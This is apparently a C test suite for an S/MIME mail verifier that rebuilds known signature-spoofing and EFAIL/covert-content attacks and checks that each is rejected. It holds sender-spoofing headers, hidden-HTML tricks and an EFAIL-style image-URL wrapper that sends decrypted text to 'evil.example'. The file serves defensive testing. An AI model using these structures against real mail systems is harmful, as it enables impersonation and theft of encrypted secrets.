/* test_open_attacks.c - every published trick with signed and encrypted mail
 *
 * The structures of "Johnny, you are fired" (2019: CMS, MIME, ID, UI), EFAIL
 * (2018) and the covert content attacks (2019), rebuilt with keys of our
 * own.  None may end as verified or confidential for what the attacker says,
 * and nothing is decrypted that does not stand at the root. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <cmocka.h>

#include "tests/flow/seal_forge.h"

#define HEAD	"From: alice@example.org\r\nTo: bob@example.org\r\n" \
		"Subject: pay\r\nMIME-Version: 1.0\r\n"
#define EVIL	"Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"
#define HTML	"Content-Type: text/html\r\n\r\n"

static int setup(void **state)
{
	(void)state;
	seal_open(LAB_P256, LAB_P256);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	seal_close();
	return 0;
}

static void is(const char *path, const char *wanted)
{
	if (strcmp(seal_word(path), wanted) != 0)
		fail_msg("%s is \"%s\", not \"%s\"", path, seal_word(path),
			 wanted);
}

static void unprotected(const char *head, const char *entity,
			const char *signature)
{
	assert_int_equal(forge_read(head, entity), 0);
	is("security", "unprotected");
	is("signature.status", signature);
}

/* What must hold before an attack means anything. */
static void genuine(void **state)
{
	(void)state;
	assert_int_equal(forge_read(HEAD, forge_genuine()), 0);
	is("security", "verified");
	assert_int_equal(forge_read(HEAD, forge_opaque(&desk.alice,
						       FORGE_TEXT)), 0);
	is("security", "verified");
	assert_non_null(strstr(buf_string(&seal.content), "Pay Bob."));
	assert_int_equal(forge_read(HEAD, forge_encrypted(forge_genuine(),
			 EVP_aes_256_gcm())), 0);
	/* GCM in a frame that says CBC is none: the peer's own type. */
	is("security", "confidential");
	assert_int_equal(forge_read(HEAD, forge_encrypted(
			 forge_opaque(&desk.alice, FORGE_TEXT),
			 EVP_aes_256_cbc())), 0);
	is("security", "confidential");
	is("encryption.integrity", "signature");
}

/* C1: the signature object brings the text that was signed, another one is
 * shown. */
static void content_of_its_own(void **state)
{
	(void)state;
	unprotected(HEAD, forge_signed(EVIL, forge_signature(&desk.alice,
		    FORGE_TEXT, CMS_BINARY)), "bad");
	unprotected(HEAD, forge_signed(FORGE_TEXT, forge_signature(
		    &desk.alice, FORGE_TEXT, CMS_BINARY)), "bad");
}

/* C2: another signer appended or put in front. */
static void several_signers(void **state)
{
	CMS_ContentInfo *cms;
	int round;
	BIO *in;

	(void)state;
	for (round = 0; round < 2; round++) {
		in = BIO_new_mem_buf(FORGE_TEXT, -1);
		cms = CMS_sign(NULL, NULL, NULL, NULL, CMS_DETACHED |
			       CMS_BINARY | CMS_PARTIAL);
		if (round == 0)
			(void)CMS_add1_signer(cms, desk.other.certificate,
					      desk.other.key, NULL,
					      CMS_BINARY | CMS_PARTIAL);
		(void)CMS_add1_signer(cms, desk.alice.certificate,
				      desk.alice.key, NULL,
				      CMS_BINARY | CMS_PARTIAL);
		if (round == 1)
			(void)CMS_add1_signer(cms, desk.other.certificate,
					      desk.other.key, NULL,
					      CMS_BINARY | CMS_PARTIAL);
		assert_int_equal(CMS_final(cms, in, NULL, CMS_DETACHED |
					   CMS_BINARY), 1);
		BIO_free(in);
		unprotected(HEAD, forge_signed(FORGE_TEXT, forge_cms(cms)),
			    "bad");
	}
}

/* C3: nobody signed. */
static void no_signers(void **state)
{
	CMS_ContentInfo *cms;
	int round;
	BIO *in;

	(void)state;
	for (round = 0; round < 2; round++) {
		in = BIO_new_mem_buf(EVIL, -1);
		cms = CMS_sign(NULL, NULL, NULL, NULL, CMS_DETACHED |
			       CMS_BINARY | CMS_PARTIAL);
		if (round == 0)
			(void)CMS_add1_cert(cms, desk.alice.certificate);
		(void)CMS_final(cms, in, NULL, CMS_DETACHED | CMS_BINARY);
		BIO_free(in);
		unprotected(HEAD, forge_signed(EVIL, forge_cms(cms)), "bad");
	}
}

/* C4: a certificate that says to be Alice's, by nobody and by another. */
static void not_trusted(void **state)
{
	const struct lab_wish wish = { .kind = LAB_P256, .name = "Alice",
				       .address = "alice@example.org" };
	struct lab_identity own = lab_identity_make(&wish);

	(void)state;
	unprotected(HEAD, forge_signed(EVIL, forge_signature(&own, EVIL,
		    CMS_DETACHED | CMS_BINARY)), "untrusted");
	assert_non_null(strstr(seal_word("line"), "nobody vouches"));
	unprotected(HEAD, forge_signed(EVIL, forge_signature(&desk.other,
		    EVIL, CMS_DETACHED | CMS_BINARY)), "untrusted");
	unprotected(HEAD, forge_opaque(&own, EVIL), "untrusted");
	lab_identity_free(&own);
}

static const char *mixed(const char *kind, const char *first,
			 const char *second, const char *third)
{
	return arena_print(desk.arena, "Content-Type: multipart/%s; "
			   "boundary=mix\r\n\r\n--mix\r\n%s\r\n--mix\r\n%s%s%s"
			   "\r\n--mix--\r\n", kind, first, second,
			   third == NULL ? "" : "\r\n--mix\r\n",
			   third == NULL ? "" : third);
}

static void partly(const char *entity)
{
	unprotected(HEAD, entity, "none");
	is("covers", "none");
	assert_true(seal_has_reason("partly-sealed"));
	is("parts.0.scheme", "smime");
	assert_true(seal_word("parts.0.part")[0] != 0);
	/* Nothing was taken out: the message as it came. */
	assert_non_null(strstr(buf_string(&seal.content), "--mix\r\n"));
}

/* M1 to M4: text in front, hidden by HTML, in a related part, attached. */
static void signed_part_beside_others(void **state)
{
	const char *sealed = forge_genuine();
	const char *opaque = forge_opaque(&desk.alice, FORGE_TEXT);

	(void)state;
	partly(mixed("mixed", EVIL, sealed, NULL));
	partly(mixed("mixed", EVIL, opaque, NULL));
	partly(mixed("mixed", sealed, EVIL, NULL));
	partly(mixed("alternative", sealed, EVIL, NULL));
	partly(mixed("mixed", HTML "<p>Pay Mallory.</p><div style="
		     "\"display:none\"><plaintext>", sealed, NULL));
	partly(mixed("mixed", HTML "<!--", sealed, HTML "-->Pay Mallory."));
	partly(mixed("related", HTML "Pay Mallory.<img src=\"cid:x\">",
		     sealed, NULL));
	partly(mixed("related", HTML "Pay Mallory.", opaque, NULL));
	partly(mixed("mixed", EVIL, arena_print(desk.arena,
		     "Content-Type: message/rfc822\r\n"
		     "Content-Disposition: attachment\r\n\r\n" HEAD "%s",
		     sealed), NULL));
	/* The signed part alone may be asked for. */
	seal.part = "2";
	assert_int_equal(forge_read(HEAD, mixed("mixed", EVIL, sealed,
						NULL)), 0);
	seal.part = NULL;
	is("security", "unprotected");
	is("covers", "part");
	is("signature.status", "good");
	assert_non_null(strstr(seal_word("line"), "this part alone"));
	assert_string_equal(buf_string(&seal.content), "Content-Type: "
			    "text/plain\r\n\r\nPay Bob.\r\n");
}

/* A message that was forwarded or attached speaks for itself alone. */
static void message_within(void **state)
{
	const char *inside = arena_print(desk.arena, "Content-Type: "
		"message/rfc822\r\n\r\n" HEAD "%s", forge_genuine());

	(void)state;
	unprotected("From: mallory@evil.example\r\nTo: b@example.org\r\n",
		    inside, "none");
	is("parts.0.part", "1");
}

/* `match` "": anything but yes (readers differ in what these fields say). */
static void from(const char *fields, const char *match)
{
	assert_int_equal(forge_read(fields, forge_genuine()), 0);
	is("signature.status", "good");
	if (strcmp(match, "yes") == 0) {
		is("signature.from_match", "yes");
		is("security", "verified");
		return;
	}
	if (match[0] != 0)
		is("signature.from_match", match);
	assert_string_not_equal(seal_word("signature.from_match"), "yes");
	is("security", "unprotected");
	assert_true(seal_has_reason("signer-not-author") ||
		    seal_has_reason("author-ambiguous"));
}

/* I1 to I3: who signed, and who it says to be from. */
static void another_author(void **state)
{
	static const char *const mismatched[] = {
		"From: boss@example.com\r\n",
		"From: boss@example.com\r\nSender: alice@example.org\r\n",
		"From: boss@example.com\r\nReply-To: alice@example.org\r\n",
		"From: alice@example.org <boss@example.com>\r\n",
		"From: \"alice@example.org\" <boss@example.com>\r\n",
		"From: =?utf-8?q?alice=40example=2Eorg?= <boss@example.com>"
		"\r\n",
		"From: \"Alice <alice@example.org>\" <boss@example.com>\r\n",
		"From: boss@example.com (alice@example.org)\r\n",
		"From: alice@example.org.evil.example\r\n",
		"From: alice@example.com\r\n",
		"From: alice@examp1e.org\r\n",
	};
	static const char *const ambiguous[] = {
		"Sender: alice@example.org\r\n",
		"From:\r\n", "From: <>\r\n", "From: alice\r\n",
		"From: Alice Harper\r\n",
		"From: alice@example.org\r\nFrom: boss@example.com\r\n",
		"From: boss@example.com\r\nFrom: alice@example.org\r\n",
		"From: alice@example.org, boss@example.com\r\n",
		"From: boss@example.com, alice@example.org\r\n",
		"From: friends: alice@example.org;\r\n",
		"From: <alice@example.org> <boss@example.com>\r\n",
		"From: alice@example.org\r\nfrom: boss@example.com\r\n",
		"From: alice@example.org\r\nFrom : boss@example.com\r\n",
		"From: alice@example.org\r\nSubject: x\r\n From: b@c.example"
		"\r\n",
		"From: alice@example.org\xe2\x80\xae\r\n",
		"From: alice@example.org boss@example.com\r\n",
	};
	size_t i;

	(void)state;
	from("From: alice@example.org\r\n", "yes");
	from("From: Alice Harper <Alice@EXAMPLE.org>\r\n", "yes");
	for (i = 0; i < sizeof(mismatched) / sizeof(mismatched[0]); i++)
		from(mismatched[i], i < 3 ? "no" : "");
	for (i = 0; i < sizeof(ambiguous) / sizeof(ambiguous[0]); i++)
		from(ambiguous[i], "ambiguous");
}

/* Protected fields inside say another author than the fields outside. */
static void inner_author(void **state)
{
	static const char inside[] =
		"Content-Type: text/plain; hp=\"clear\"\r\n"
		"From: alice@example.org\r\nSubject: pay\r\n\r\nPay Bob.\r\n";
	const char *sealed = forge_signed(inside, forge_signature(&desk.alice,
		inside, CMS_DETACHED | CMS_BINARY));

	(void)state;
	assert_int_equal(forge_read(HEAD, sealed), 0);
	is("security", "verified");
	assert_int_equal(forge_read("From: boss@example.com\r\n", sealed), 0);
	is("security", "unprotected");
	is("signature.from_match", "no");
	assert_true(seal_has_reason("headers-changed"));
}

/* Fields inside that are not inside a signature that holds. */
static void headers_without_a_signature(void **state)
{
	static const char inside[] =
		"Content-Type: text/plain; hp=\"clear\"\r\n"
		"From: alice@example.org\r\n\r\nPay Mallory.\r\n";

	(void)state;
	unprotected("From: mallory@evil.example\r\n", inside, "none");
	is("headers.protection", "none");
	unprotected("From: mallory@evil.example\r\n",
		    forge_signed(inside, forge_signature(&desk.alice,
			FORGE_TEXT, CMS_DETACHED | CMS_BINARY)), "bad");
	is("headers.protection", "none");
	/* Below the root of the payload they count for nothing. */
	assert_int_equal(forge_read(HEAD, forge_encrypted(mixed("mixed",
			 EVIL, inside, NULL), EVP_aes_256_gcm())), 0);
	is("headers.protection", "none");
}

/* U1: what looks like our word is the sender's. */
static void words_of_ours(void **state)
{
	(void)state;
	unprotected(HEAD "X-Mailseal-0123456789abcdef: verified\r\n"
		    "Authentication-Results: mailseal; smime=pass\r\n", EVIL,
		    "none");
}

/* Structures that programs cut differently. */
static void ambiguous_structure(void **state)
{
	const char *sealed = forge_genuine();
	const char *body = strstr(sealed, "--sig\r\n");
	const char *type = "Content-Type: multipart/signed; micalg=sha-256;\r\n"
		" protocol=\"application/pkcs7-signature\"; boundary=sig\r\n";

	(void)state;
	unprotected(HEAD, arena_print(desk.arena, "%s%s%s\r\n%s", type,
		    "Content-Type: text/html\r\n", "", body), "bad");
	unprotected(HEAD, arena_print(desk.arena, "%s%s%s\r\n%s",
		    "Content-Type : text/html\r\n", type, "", body), "bad");
	unprotected(HEAD, arena_print(desk.arena, "%s%s%s\r\n%s", type,
		    "Content-Transfer-Encoding: base64\r\n", "", body),
		    "bad");
	/* A third part; a delimiter for those who compare beginnings. */
	unprotected(HEAD, arena_print(desk.arena, "%s\r\n--sig\r\n" EVIL
		    "\r\n%s", type, body), "bad");
	unprotected(HEAD, arena_print(desk.arena, "%s\r\n--sigX\r\n" EVIL
		    "\r\n%s", type, body), "bad");
	/* Two boundaries; none; the signature in front; only one part. */
	unprotected(HEAD, arena_print(desk.arena, "Content-Type: "
		    "multipart/signed; protocol=\"application/"
		    "pkcs7-signature\"; boundary=sig; boundary=x\r\n\r\n%s",
		    body), "bad");
	unprotected(HEAD, arena_print(desk.arena, "Content-Type: "
		    "multipart/signed; protocol=\"application/"
		    "pkcs7-signature\"\r\n\r\n%s", body), "bad");
	unprotected(HEAD, arena_print(desk.arena, "%s\r\n--sig\r\n"
		    FORGE_TEXT "\r\n--sig--\r\n", type), "bad");
	/* No protocol, or another's. */
	unprotected(HEAD, arena_print(desk.arena, "Content-Type: "
		    "multipart/signed; boundary=sig\r\n\r\n%s", body),
		    "none");
	/* What is in front of and behind all parts nobody shows. */
	assert_int_equal(forge_read(HEAD, arena_print(desk.arena,
		"%s\r\nThis is an S/MIME signed message\r\n\r\n%sa footer\r\n",
		type, body)), 0);
	is("security", "verified");
	assert_null(strstr(buf_string(&seal.content), "footer"));
}

/* EFAIL: encrypted text between the halves of an image's address; and the
 * covert content attacks: old ciphertext hidden in a new mail. */
static void ciphertext_beside_others(void **state)
{
	const char *secret = forge_encrypted("Content-Type: text/plain\r\n\r\n"
					     "the secret\r\n",
					     EVP_aes_256_cbc());
	const char *kinds[] = { "mixed", "alternative", "related", "digest",
				"parallel", "x-own" };
	size_t i;

	(void)state;
	partly(mixed("mixed", HTML "<img src=\"http://evil.example/", secret,
		     HTML "\">"));
	assert_null(strstr(buf_string(&seal.content), "the secret"));
	for (i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		partly(mixed(kinds[i], EVIL, secret, NULL));
		assert_null(strstr(buf_string(&seal.content), "the secret"));
		partly(mixed(kinds[i], secret, EVIL, NULL));
		assert_null(strstr(buf_string(&seal.content), "the secret"));
	}
	/* Within a message within. */
	unprotected(HEAD, mixed("mixed", EVIL, arena_print(desk.arena,
		    "Content-Type: message/rfc822\r\n\r\n" HEAD "%s",
		    secret), NULL), "none");
	assert_null(strstr(buf_string(&seal.content), "the secret"));
	/* Signed by the attacker around it, and encrypted once more. */
	assert_int_equal(forge_read(HEAD, forge_encrypted(mixed("mixed", EVIL,
			 secret, NULL), EVP_aes_256_gcm())), 0);
	is("security", "encrypted");
	assert_true(seal_has_reason("sealed-within"));
	assert_null(strstr(buf_string(&seal.content), "the secret"));
	/* By its number it is opened, as a document of its own. */
	seal.part = "2";
	assert_int_equal(forge_read(HEAD, mixed("mixed", EVIL, secret,
						NULL)), 0);
	seal.part = NULL;
	is("covers", "part");
	assert_string_equal(buf_string(&seal.content), "Content-Type: "
			    "text/plain\r\n\r\nthe secret\r\n");
	seal.part = "7.1";
	assert_int_equal(forge_read(HEAD, mixed("mixed", EVIL, secret,
						NULL)), 0);
	seal.part = NULL;
	assert_true(seal_has_reason("no-such-part"));
	assert_false(seal.left);
}

/* The attacker's signature around somebody's ciphertext. */
static void signed_around_ciphertext(void **state)
{
	const char *secret = forge_encrypted("Content-Type: text/plain\r\n\r\n"
					     "the secret\r\n",
					     EVP_aes_256_gcm());
	const char *sealed = forge_signed(secret, forge_signature(&desk.alice,
		secret, CMS_DETACHED | CMS_BINARY));

	(void)state;
	assert_int_equal(forge_read(HEAD, sealed), 0);
	is("security", "encrypted");
	is("signature.status", "good");
	assert_true(seal_has_reason("signed-outside"));
	/* Bad around CBC: what came out may be anything. */
	secret = forge_encrypted("Content-Type: text/plain\r\n\r\nthe secret",
				 EVP_aes_256_cbc());
	assert_int_equal(forge_read(HEAD, forge_signed(secret,
		forge_signature(&desk.alice, EVIL, CMS_DETACHED |
				CMS_BINARY))), 0);
	is("security", "encrypted");
	assert_false(seal.left);
}

/* Layers upon layers end somewhere. */
static void many_layers(void **state)
{
	const char *text = FORGE_TEXT;
	int i;

	(void)state;
	for (i = 0; i < OPEN_LAYERS_MAX + 2; i++)
		text = forge_opaque(&desk.alice, text);
	assert_int_equal(forge_read(HEAD, text), 0);
	is("security", "unprotected");
	assert_true(seal_has_reason("too-many-layers"));
	assert_false(seal.left);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(genuine),
		cmocka_unit_test(content_of_its_own),
		cmocka_unit_test(several_signers),
		cmocka_unit_test(no_signers),
		cmocka_unit_test(not_trusted),
		cmocka_unit_test(signed_part_beside_others),
		cmocka_unit_test(message_within),
		cmocka_unit_test(another_author),
		cmocka_unit_test(inner_author),
		cmocka_unit_test(headers_without_a_signature),
		cmocka_unit_test(words_of_ours),
		cmocka_unit_test(ambiguous_structure),
		cmocka_unit_test(ciphertext_beside_others),
		cmocka_unit_test(signed_around_ciphertext),
		cmocka_unit_test(many_layers),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
